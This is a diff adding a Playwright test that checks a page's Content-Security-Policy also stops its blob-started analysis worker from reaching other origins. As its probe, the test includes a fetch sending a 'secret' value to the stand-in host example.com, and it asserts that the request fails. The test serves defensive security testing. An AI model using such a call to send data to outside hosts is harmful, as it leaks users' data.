@@ -331,6 +331,37 @@ test('the Content-Security-Policy forbids connections to other origins', async (
 
 // ---- (b) Hostile names render inert -----------------------------------------------------------
 
+// The page's CSP is a <meta> tag; a worker loaded from its own URL would not inherit it (a
+// static host sends its script without a policy), so the page starts the worker from a blob:
+// bootstrap, which does. Whatever runs in the worker (it holds the artifact's bytes) is bound too.
+test('the analysis worker cannot connect to another origin either', async ({ page, context }) => {
+  const left = [];
+  await context.route(/example\.com/, (route) => {
+    left.push(route.request().url());
+    return route.abort('blockedbyclient');
+  });
+  const probes = [];
+  page.on('worker', (w) => {
+    probes.push(
+      w
+        .evaluate(() =>
+          fetch('https://example.com/from-worker?d=secret').then(
+            () => 'sent',
+            (e) => `failed: ${e.message}`,
+          ),
+        )
+        .catch((e) => `worker gone: ${e.message}`),
+    );
+  });
+  await page.goto('./');
+  await page.getByTestId('artifact-input').setInputFiles(fixture('java09_e_expire_changelog_tag_branch.zip'));
+  await expect(page.getByTestId('verdict')).toBeVisible({ timeout: 60_000 });
+  const outcomes = await Promise.all(probes);
+  expect(probes.length).toBeGreaterThan(0);
+  expect(outcomes).not.toContain('sent');
+  expect(left, 'a request from the worker reached the network').toEqual([]);
+});
+
 test('names holding HTML and javascript: URLs render as text and never run', async ({
   page,
   context,
